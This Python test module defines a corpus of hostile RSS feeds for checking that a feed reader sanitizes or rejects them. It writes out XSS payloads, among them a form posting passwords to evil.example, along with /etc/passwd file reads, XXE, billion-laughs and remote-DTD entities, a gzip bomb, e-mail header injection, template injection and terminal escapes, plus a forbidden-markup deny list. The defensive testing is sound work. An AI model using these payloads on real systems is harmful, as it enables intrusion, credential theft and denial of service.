"""The hostile corpus: every case, what it attacks, and the behaviour it expects.

A case is served as a file or over the loopback server (``serve``); the mixed
build (tests/test_hostile.py) puts all of them in one edition beside the good
feeds of ``good.py``. Expectations:

- ``expect="failed"``: the source is marked failed in issue.json, its error
  names its URL and contains ``error``, and stderr names it too;
- ``expect="ok"``: the source is read; each headline of ``keep`` (an ordinary
  story carrying the payload) is in the issue, as a briefing or a Briefly item;
  ``entries``, when given, is the count issue.json must record.

``FORBIDDEN_MARKUP`` and the passwd check in test_hostile.py then hold the
outputs to the policy. Payloads come as markup, never as escaped text, so that
no output (text included) may show any of the forbidden strings.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from html import escape
from pathlib import Path

from good import RECENT, story_paragraphs
from httpserver import LoopbackServer

#: Where a case is served: it writes files into the folder or routes onto the server; returns the URL.
Serve = Callable[[Path, LoopbackServer], str]


@dataclass(frozen=True)
class Case:
    name: str
    #: What the case attacks (one line).
    attack: str
    serve: Serve
    expect: str = "ok"
    #: Words the failure must contain.
    error: str = ""
    keep: tuple[str, ...] = ()
    entries: int | None = None
    full_text: bool = False
    #: Paths of the loopback server that must never be requested (DTDs, stylesheets, pages, images).
    never_requested: tuple[str, ...] = field(default=())


def _file(name: str, data: bytes) -> Serve:
    def serve(folder: Path, server: LoopbackServer) -> str:
        path = folder / name
        path.write_bytes(data)
        return str(path)

    return serve


def _route(path: str, data: bytes, content_type: str = "application/rss+xml", status: int = 200) -> Serve:
    return lambda folder, server: server.route(path, data, content_type=content_type, status=status)


def rss(items: str, title: str = "Hostile Desk", prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel><title>{title}</title>'
        f"<link>https://hostile.example.org/</link>{items}</channel></rss>"
    ).encode()


def item(headline_xml: str, body_html: str, key: str, hour: int = 4) -> str:
    """An RSS item; ``headline_xml`` is inserted as is (it may hold character references)."""
    return (
        f"<item><title>{headline_xml}</title><link>https://hostile.example.org/{key}</link>"
        f"<guid>{key}</guid><pubDate>{RECENT.format(hour=hour)}</pubDate>"
        f"<description>{escape(body_html)}</description></item>"
    )


def payload_story(topic: str, payloads: list[str]) -> str:
    """Ordinary paragraphs about ``topic`` with the payloads between them (HTML)."""
    paragraphs = story_paragraphs(topic)
    parts: list[str] = []
    for index, paragraph in enumerate(paragraphs):
        parts.append(f"<p>{escape(paragraph)}</p>")
        parts.extend(payloads[index :: len(paragraphs)])
    return "".join(parts)


XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    '<img src="x" onerror="alert(1)">',
    '<p><a href="javascript:alert(1)">a link</a></p>',
    '<p><a href="JaVaScRiPt:alert(1)">another link</a></p>',
    '<p><a href="jav&#x09;ascript:alert(1)">a tabbed link</a></p>',
    '<p><a href="vbscript:msgbox(1)">old link</a></p>',
    '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/e.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<p style="position:fixed;top:0;background:url(https://evil.example/t.png)">styled</p>',
    "<svg onload=\"alert(1)\"><circle r='1'/></svg>",
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<div onmouseover="alert(1)">hover</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
]

LOCAL_FILE_PAYLOADS = [
    '<img src="file:///etc/passwd" alt="passwd">',
    '<img src="/etc/passwd">',
    '<img src="file:///dev/zero">',
    '<link rel="stylesheet" href="file:///etc/passwd">',
    "<style>@import url(file:///etc/passwd); body { background: url(/etc/passwd) }</style>",
    '<div style="background-image:url(file:///etc/passwd)">bg</div>',
    '<p><a rel="attachment" href="file:///etc/passwd">passwd</a></p>',
    '<object data="file:///etc/passwd"></object>',
]

#: Strings (lower-cased) no HTML, text, PDF, e-mail or stderr output may contain.
FORBIDDEN_MARKUP = (
    "<script",
    "javascript:",
    "vbscript:",
    "onerror=",
    "onload=",
    "onmouseover=",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<base",
    "http-equiv",
    "file://",
    "data:text/html",
    "evil.example",
    "tracker.example",
    "/etc/passwd",
    "/dev/zero",
    "49 plan",
    "the 49 scheme",
)

TEMPLATE_HEADLINE = "Budget vote on the {{ 7*7 }} scheme"
INJECTION_HEADLINE_XML = (
    "Night ferry timetable doubles departures&#13;&#10;Bcc: victim@example.org&#13;&#10;X-Injected: yes"
)
INJECTION_HEADLINE = "Night ferry timetable doubles departures Bcc: victim@example.org X-Injected: yes"
TERMINAL_HEADLINE_XML = "Park keepers ask for more staff &#x1b;]0;owned&#x7; &#x1b;[2J&#x9b;31m"


def _gzip_bomb(folder: Path, server: LoopbackServer) -> str:
    """200 MB of zeros, about 200 KB gzipped: the size cap must stop the inflation."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip wrapper
    block = b"\0" * (1 << 20)
    data = b"".join(compressor.compress(block) for _ in range(200)) + compressor.flush()
    return server.route(
        "/bomb.xml", data, content_type="application/rss+xml", headers={"Content-Encoding": "gzip"}
    )


def _archive_item(index: int, description: str) -> str:
    return (
        f"<item><title>Archive entry {index:04d}</title><link>https://old.example.org/{index}</link>"
        f"<guid>old-{index}</guid><pubDate>Mon, 01 Jan 2024 00:00:00 +0000</pubDate>"
        f"<description>{description}</description></item>"
    )


def _many_entries(count: int, description: str) -> bytes:
    """Old entries (2024): read and counted, outside the build's window."""
    return rss("".join(_archive_item(i, description) for i in range(count)), title="Archive Desk")


TWENTY_MB_DESCRIPTION = escape("<p>" + "Filler words about the archive of an old feed. " * 85 + "</p>")
TWENTY_MB_ENTRIES = 20_000_000 // len(_archive_item(0, TWENTY_MB_DESCRIPTION))


def _twenty_mb(folder: Path, server: LoopbackServer) -> str:
    path = folder / "twenty-mb.xml"
    path.write_bytes(_many_entries(TWENTY_MB_ENTRIES, TWENTY_MB_DESCRIPTION))
    return str(path)


_SYLLABLES = (
    "ka",
    "lo",
    "mi",
    "ner",
    "tu",
    "vas",
    "pri",
    "do",
    "sel",
    "gan",
    "ro",
    "bi",
    "fen",
    "ul",
    "zo",
    "tra",
)


def _word(number: int) -> str:
    """A made-up word for ``number``: entries that share no word are never clustered together."""
    letters = ""
    for _ in range(4):
        number, digit = divmod(number, len(_SYLLABLES))
        letters += _SYLLABLES[digit]
    return letters.capitalize()


def _new_item(index: int) -> str:
    """A recent entry: a short notice (a Briefly item), or every 100th a long story with a long headline."""
    words = [_word(index * 7 + k) for k in range(7)]
    if index % 100:
        body = f"<p>{' '.join(words)} reported a notice from the {words[0]} office today.</p>"
        title = f"Notice {index}: {words[0]} {words[1]}"
    else:
        sentences = [
            f"The {w} council met on Monday and the {w} plan was approved by members." for w in words
        ]
        body = "".join(f"<p>{' '.join(sentences)} {w} said more work would follow.</p>" for w in words) * 40
        title = f"Long story {index}: {words[0]} " + " ".join(words) * 40
    return (
        f"<item><title>{escape(title)}</title><link>https://busy.example.org/{index}</link>"
        f"<guid>busy-{index}</guid><pubDate>{RECENT.format(hour=2)}</pubDate>"
        f"<description>{escape(body)}</description></item>"
    )


def five_thousand_new(folder: Path, server: LoopbackServer) -> str:
    """5,000 recent entries: thousands of Briefly items and 50 long stories, 5,000-character headlines."""
    body = rss("".join(_new_item(i) for i in range(1, 5001)), title="Busy Desk")
    return server.route("/busy.xml", body, content_type="application/rss+xml")


def _slow(folder: Path, server: LoopbackServer) -> str:
    body = rss(item("Slow entry", "<p>Never read.</p>", "slow"))
    return server.slow("/slow.xml", body, chunk_size=1, interval=0.25)


def _external_dtd(folder: Path, server: LoopbackServer) -> str:
    prolog = (
        f'<?xml-stylesheet type="text/xsl" href="{server.url("/evil.xsl")}"?>'
        f'<!DOCTYPE rss SYSTEM "{server.url("/evil.dtd")}">'
    )
    body = rss(item("Library extends its opening hours", payload_story("library", []), "dtd"), prolog=prolog)
    return _file("external-dtd.xml", body)(folder, server)


def _full_text(folder: Path, server: LoopbackServer) -> str:
    server.route(
        "/article.html",
        b"<html><body><article><p>Secret intranet page.</p></article></body></html>",
        content_type="text/html",
    )
    items = (
        f"<item><title>{TERMINAL_HEADLINE_XML}</title><link>{server.url('/article.html')}</link>"
        f"<guid>full-1</guid><pubDate>{RECENT.format(hour=3)}</pubDate>"
        "<description>Short teaser of a park story.</description></item>"
    )
    return _file("full-text.xml", rss(items, title="Teaser Desk"))(folder, server)


def _local_images(folder: Path, server: LoopbackServer) -> str:
    payloads = [*LOCAL_FILE_PAYLOADS, f'<img src="{server.url("/secret.png")}" width="300" height="200">']
    body = rss(
        item("Bridge repairs will close the east crossing", payload_story("bridge", payloads), "files")
    )
    return _file("local-files.xml", body)(folder, server)


BILLION_LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {n} "{(f"&{p};") * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)

CASES: tuple[Case, ...] = (
    Case(
        "xss",
        "scripts, event handlers, javascript:/data:/vbscript: links, iframes, objects, forms, <base>, "
        "<meta> refresh, style attributes, SVG, tracking pixel, mXSS and split-tag evasions",
        _file(
            "xss.xml",
            rss(item("Tram line to the airport wins approval", payload_story("tram", XSS_PAYLOADS), "xss")),
        ),
        keep=("Tram line to the airport wins approval",),
    ),
    Case(
        "local-files",
        "file:// and absolute-path images, stylesheets, @import, CSS url(), attachments, /dev/zero, "
        "an image on a loopback address",
        _local_images,
        keep=("Bridge repairs will close the east crossing",),
        never_requested=("/secret.png",),
    ),
    Case(
        "header-injection",
        "CR LF in a headline that becomes the e-mail's Subject: Bcc and X-Injected headers",
        _file(
            "header-injection.xml",
            rss(
                item(
                    INJECTION_HEADLINE_XML,
                    payload_story("ferry", []),
                    "inject",
                    hour=5,
                )
            ),
        ),
        keep=(INJECTION_HEADLINE,),
    ),
    Case(
        "template-syntax",
        "Jinja syntax in a headline and in the text: {{ 7*7 }} must show as typed, never 49",
        _file(
            "template.xml",
            rss(
                item(
                    escape(TEMPLATE_HEADLINE),
                    payload_story(
                        "{{ 7*7 }}", ["<p>{% for x in range(10**9) %}{{ x }}{% endfor %} ${7*7} #{7*7}</p>"]
                    ),
                    "template",
                )
            ),
        ),
        keep=(TEMPLATE_HEADLINE,),
    ),
    Case(
        "lone-surrogate",
        "&#xD800; (a lone surrogate) in a headline: feedparser raises",
        _file("surrogate.xml", rss(item("Broken &#xD800; entry", "<p>text</p>", "surrogate"))),
        expect="failed",
        error="not a feed",
    ),
    Case(
        "xxe",
        "an external entity reading /etc/passwd",
        _file(
            "xxe.xml",
            rss(
                item("Leak &xxe;", "<p>&xxe;</p>", "xxe"),
                prolog='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            ),
        ),
        expect="failed",
        error="entity",
    ),
    Case(
        "billion-laughs",
        "nested entities expanding to 10^9 characters",
        _file("laughs.xml", rss(item("Laugh &i;", "<p>x</p>", "laughs"), prolog=BILLION_LAUGHS)),
        expect="failed",
        error="entity",
    ),
    Case(
        "parameter-entity",
        "a parameter entity loading a remote DTD",
        _file(
            "parameter.xml",
            rss(
                item("Param", "<p>x</p>", "param"),
                prolog='<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/p.dtd"> %remote;]>',
            ),
        ),
        expect="failed",
        error="entity",
    ),
    Case(
        "external-dtd",
        "a DOCTYPE and an xml-stylesheet pointing at the loopback server: neither may be fetched",
        _external_dtd,
        keep=("Library extends its opening hours",),
        never_requested=("/evil.dtd", "/evil.xsl"),
    ),
    Case(
        "empty-body", "an empty 200 response", _route("/empty.xml", b""), expect="failed", error="empty body"
    ),
    Case(
        "html-page",
        "an HTML page where a feed should be",
        _route("/page.xml", b"<!doctype html><html><body><p>Not a feed</p></body></html>", "text/html"),
        expect="failed",
        error="HTML page",
    ),
    Case(
        "binary-garbage",
        "random bytes",
        _file("garbage.xml", bytes(range(256)) * 64),
        expect="failed",
        error="not a feed",
    ),
    Case(
        "truncated",
        "a feed cut off in the middle of its second item",
        _file(
            "truncated.xml",
            rss(
                item("Harbour wall rebuilt after winter storms", payload_story("harbour wall", []), "trunc")
                + "<item><title>Cut off"
            )[: -len("</channel></rss>")],
        ),
        keep=("Harbour wall rebuilt after winter storms",),
    ),
    Case(
        "mislabelled-encoding",
        "declares UTF-8, is Windows-1252 (é, curly quotes as single bytes)",
        _file(
            "latin1.xml",
            rss(item("Café owners welcome a car-free square", payload_story("square", []), "latin1"))
            .decode("utf-8")
            .encode("cp1252"),
        ),
        keep=("Café owners welcome a car-free square",),
    ),
    Case(
        "utf-16",
        "a UTF-16 feed with a byte order mark",
        _file(
            "utf16.xml",
            rss(item("Museum adds a wing for maritime history", payload_story("museum", []), "utf16"))
            .decode("utf-8")
            .replace('encoding="utf-8"', 'encoding="utf-16"')
            .encode("utf-16"),
        ),
        keep=("Museum adds a wing for maritime history",),
    ),
    Case(
        "terminal-escapes",
        "ESC sequences (title change, clear screen) and a C1 CSI in a headline, logged on stderr",
        _full_text,
        full_text=True,
        keep=("Park keepers ask for more staff",),
        never_requested=("/article.html",),
    ),
    Case("slow", "one byte every quarter second", _slow, expect="failed", error="timed out"),
    Case(
        "huge",
        "60 MB of filler",
        lambda folder, server: server.large("/huge.xml", 60_000_000),
        expect="failed",
        error="larger than",
    ),
    Case("gzip-bomb", "200 MB of zeros in 200 KB of gzip", _gzip_bomb, expect="failed", error="larger than"),
    Case(
        "redirect-loop",
        "a redirect to itself",
        lambda folder, server: server.redirect("/loop.xml", "/loop.xml"),
        expect="failed",
        error="redirects",
    ),
    Case(
        "redirect-to-file",
        "a redirect to file:///etc/passwd",
        lambda folder, server: server.redirect("/tofile.xml", "file:///etc/passwd"),
        expect="failed",
        error="not http(s)",
    ),
    Case(
        "server-error",
        "HTTP 500",
        _route("/error.xml", b"oops", "text/plain", status=500),
        expect="failed",
        error="HTTP 500",
    ),
    Case(
        "five-thousand-entries",
        "5,000 entries (old: read and counted, outside the window)",
        _file("many.xml", _many_entries(5000, "A short archived entry.")),
        entries=5000,
    ),
    Case(
        "twenty-megabytes",
        "a 20 MB feed (old entries)",
        _twenty_mb,
        entries=TWENTY_MB_ENTRIES,
    ),
    Case(
        "long-words-and-css",
        "a 100,000-character word, absurd CSS sizes, a 3,000-character headline tail",
        _file(
            "long.xml",
            rss(
                item(
                    "Market hall reopens after renovation",
                    payload_story(
                        "market",
                        [
                            "<p>" + "A" * 100_000 + "</p>",
                            '<p style="font-size:99999px;width:1000000000px;letter-spacing:-9999em">big</p>',
                            '<h1 style="font-size:1e308px">huge</h1>',
                            '<table width="99999999"><tr><td colspan="99999">cell</td></tr></table>',
                        ],
                    ),
                    "long",
                )
            ),
        ),
        keep=("Market hall reopens after renovation",),
    ),
)

__all__ = ["CASES", "FORBIDDEN_MARKUP", "Case", "five_thousand_new"]
